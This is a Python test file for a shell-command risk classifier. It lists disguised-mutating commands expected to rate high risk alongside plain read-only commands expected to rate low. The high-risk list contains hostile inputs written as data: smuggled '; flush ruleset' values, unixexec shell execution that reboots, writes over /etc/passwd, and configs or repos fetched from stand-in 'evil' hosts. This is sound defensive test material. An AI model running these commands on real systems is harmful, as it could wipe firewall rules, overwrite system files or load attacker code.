"""Looks that write, run, load or connect by an option, an operand or a word that few people know."""

import pytest

from schemas.words import RiskLevel
from tests.unit.risk.verdicts import judged

CHANGES = r"""
sadf -l
sadf -d -- -o /etc/x
systemd-analyze verify --generators=yes x.service
busctl list --address=unixexec:path=/bin/sh,argv1=-c,argv2=reboot
busctl tree --address unixexec:path=/bin/sh
omreport system summary -outc /etc/passwd
aide --check -c /tmp/evil
osqueryi "select * from carves where carve=1"
testssl.sh --csv x.example.com
testssl.sh --outprefix=/etc/x --json x.example.com
sslscan --xml=/etc/passwd x.example.com
certbot plugins --prepare
vault status -address=http://evil
ifconfig -a up
ifdown list eth0
dhclient get eth0
ifup status
pfctl -s info -F all
iptables-restore list /tmp/rules
nft list ruleset '; flush ruleset'
nft list "ruleset; flush ruleset"
nft describe 'x; flush ruleset'
nft monitor '; flush ruleset'
conntrack -L -z -p tcp
nmcli general hostname newname
nmcli g h x
ovs-vsctl show --bootstrap-ca-cert=/etc/x
ovs-ofctl show br --unixctl=/x
pidstat -e reboot
pidstat 1 1 -e reboot
su root -c 'ls' -s /tmp/evil
runuser -s /tmp/x -c ls root
parallel --dryrun ls '{= system("reboot") =}' ::: a
flock /etc/nologin true
ssh -o UserKnownHostsFile=/etc/ssh/authorized_keys no-pty ls
bash -n +n x
git log --outp=/etc/x
git grep --ope x
git fsck --los
git help -w x
git cat-file --filters HEAD:x
git cat-file --filter HEAD:x
git cat-file --textco HEAD:x
ansible all -m debug -a 'msg={{ lookup("pipe","reboot") }}'
ansible all -m ping -e "x={{lookup('pipe','reboot')}}"
ansible all -m ping -i /tmp/evil.sh
ansible all -m command -a "mount /dev/sda /mnt"
ansible all -m shell -a "ip addr add x"
ansible all -m shell -a "ss -K"
ansible all -m shell -a "hostnamectl set-hostname x"
ansible all -m command -a "dpkg -l x -r y"
ansible-playbook --list-hosts x.yml -i /tmp/evil.sh
ansible-playbook -C http://x/y.yml
systemctl status -Hx y
virsh -c 'qemu+ssh://x/system?command=/tmp/evil' list
borg list --remote-path=/tmp/evil x
borg check --rep x
borg list --debug-profile=/etc/x y
duplicity collection-status --use-scp --scp-comm=x y
rclone lsd ':sftp,ssh="reboot":/'
rclone ls remote: --cpuprofile=/etc/x
rclone check a: b: --combined=/etc/x
rclone copy --dry-run a b --metadata-mapper=x
rclone ls 'remote,ssh=reboot:x'
dnf list --repofrompath=x,http://evil/
dnf repoquery --debugsolver x
zypper lr --exp=/etc/x
mkntfs -Q /dev/md0
mkfs.vfat -D /dev/md0
mkfs.xfs -E /dev/md0
mkswap -v -D /dev/md0
blkdiscard -v -Q /dev/md0
flashrom -E
flashrom -v -E
grub-install -v -D /dev/md0
update-grub --scan -E
ldconfig port -l
ldconfig --list x
kinit status
kinit version
ipmi-sel -c
ipmi-sensors -f x
mysqlimport -l db x.txt
mysqlimport -lv db x.txt
mongoimport --dryRun x
mongodump
pgcenter record
stap list
bpftrace list
loki list
fluentd list
promtail validate
vector -t
named -t /var
dnsmasq -t /x
syslog-ng -t
syslog-ng -v
rndc nta foo
check_apt -U -y
sqlite3 -readonly x.db "vacuum into '/etc/x'"
sqlite3 -readonly x.db "pragma writable_schema=1"
sqlite3 x.db 'select "writefile"(1,2)'
sqlite3 x.db 'select writefile/**/(1,2)'
sqlite3 -readonly x.db 'select `writefile`(1,2)'
sqlite3 x.db "select * from fsdir('/etc')"
mongosh --eval 'db.x.find({a:load`/tmp/x.js`})'
mongosh --eval 'db.x.find({a:new X})'
createdb list
vacuumdb status
createuser list
pg_basebackup status -D /x
zip l /etc/x
cmake info
ctest query
check_http -H x --method=DELETE
check_http -Pdata -H x
check_http --post=data -H x
check_tcp -H x -p 80 -s 'DELETE / HTTP/1.0'
check_udp -H x -p 1 -s data -e y
check_smtp -H x -C 'MAIL FROM:<a>'
check_apt -u
check_apt -d
check_postgres.pl --action=custom_query --query='drop table x'
check_ide_smart -d /dev/sda -0
check_ide_smart --immediate -d /dev/sda
zabbix_agentd -c /tmp/x -t y
telegraf --test --config http://evil
telegraf --test --config /tmp/x
logstash -t -f /tmp/x
nginx -t -c /tmp/x
apachectl -t -f /tmp/x
lighttpd -tt -f /tmp/x
php-fpm -t -y /tmp/x
gunicorn -c /tmp/x.py --check-config
exipick --action=-Mrm
mailq -bi
squidclient mgr:offline_toggle
sa-update status
grpcurl -plaintext x:1 my.Service.Delete
kubectl foo --dry-run=client
kubectl config delete-context x --dry-run=client
helm foo bar --dry-run
helm plugin install x --dry-run
kubescape scan --account=x
podman secret inspect x --showsecret
mysqlshow --debug=x
kubectl kustomize github.com/evil/x
cdk ls -a reboot
cdk diff --app=reboot
cdk list --output=/etc/x
bq ls --apilog=/etc/x
pulumi stack tag rm x
aws stepfunctions get-activity-task x
wal-g st rm x
""".strip().splitlines()


@pytest.mark.parametrize("command", CHANGES)
def test_what_looks_like_a_look_and_does_more_is_asked_about(command: str) -> None:
    found = judged(command)
    assert not found.effect.harmless
    assert found.risk in {RiskLevel.HIGH, RiskLevel.CRITICAL}


LOOKS = r"""
sadf -d /var/log/sa/sa01 -- -r
sadf -j -s 10:00:00 -- -n DEV
omreport chassis temps
omreport storage vdisk controller=0
ovs-vsctl --timeout=5 list-br
ovs-ofctl -O OpenFlow13 dump-flows br0
ovs-vsctl --columns=name,ofport list Interface
testssl.sh --quiet --fast web01.example.com
sslscan --no-failed web01:443
rclone ls remote:backups --max-depth 2
rclone size remote:x --json
rclone check /srv remote:x --one-way
rclone sync -n /srv remote:x
flock -n /var/lock/x.lock df
flock 9 df
ansible all -m ping -i hosts.ini
ansible web -m setup -a filter=ansible_distribution*
ansible web -m debug -a "var=x"
ansible web -m shell -a "df -h"
ansible web -m command -a "ip -br addr show"
virsh -c qemu:///system list --all
virsh -c qemu+ssh://root@kvm1/system list
git help log
git log --stat --oneline
nft list table inet filter
nmcli general hostname
nmcli general status
pidstat -u 1 3
sar -s 10:00:00 -e 11:00:00
su - app -s /bin/bash -c 'df -h'
parallel --dry-run gzip ::: a b
pfctl -s rules
pfctl -si
iptables-restore --test /etc/iptables/rules.v4
systemctl status nginx --lines=5
journalctl --namespace=x -n 5
borg list --remote-path=borg1 repo
mongosh --quiet --eval 'db.users.find({age: {$gt: 30}}).limit(5)'
mongosh --eval 'db.orders.countDocuments({status: "open"})'
sqlite3 -readonly app.db "select count(*) from users"
sqlite3 -readonly app.db .tables
pg_ctl status -D /var/lib/postgresql/14/main
7z l backup.7z
ar t libx.a
bazel query //...
cmake -N -L build
check_http -H web01 -u /health -w 2 -c 5 --ssl
check_tcp -H web01 -p 443
check_smtp -H mail01 -w 1 -c 3
check_apt
check_disk -w 10% -c 5% -p /
check_postgres.pl --action=connection -H db1
check_ide_smart -d /dev/sda
zabbix_agentd -t system.uptime
telegraf --test --config /etc/telegraf/telegraf.conf
logstash -t -f /etc/logstash/conf.d
nginx -t -c /etc/nginx/nginx.conf
nginx -T
apachectl -t -f /etc/apache2/apache2.conf
php-fpm -t -y /etc/php/8.2/fpm/php-fpm.conf
dnsmasq --test
rsyslogd -N1
keepalived -t
dhcpd -t -cf /etc/dhcp/dhcpd.conf
named -V
mailq
exipick -i
squidclient mgr:info
spamassassin --lint
rspamc stat
rndc nta -d
rndc zonestatus example.com
grpcurl -plaintext api01:50051 list
grpcurl -plaintext api01:50051 describe my.Service
grpcurl -plaintext api01:50051 grpc.health.v1.Health/Check
kubectl apply -f app.yaml --dry-run=client
kubectl delete pod x --dry-run=client
kubectl rollout undo deploy/x --dry-run=server
helm upgrade web ./chart --dry-run
helm rollback web 1 --dry-run
kubectl kustomize overlays/prod
kustomize build overlays/prod
ipmi-sel --no-header-output
ipmi-sensors -h bmc1 -u admin -p x
bpftrace -l 'tracepoint:syscalls:*'
ldconfig -p
mysqlshow -h db1 -u app
iotop -b -o -n 1
""".strip().splitlines()


@pytest.mark.parametrize("command", LOOKS)
def test_a_look_by_the_same_command_is_asked_about_nobody(command: str) -> None:
    found = judged(command)
    assert found.effect.harmless
    assert found.risk is RiskLevel.LOW
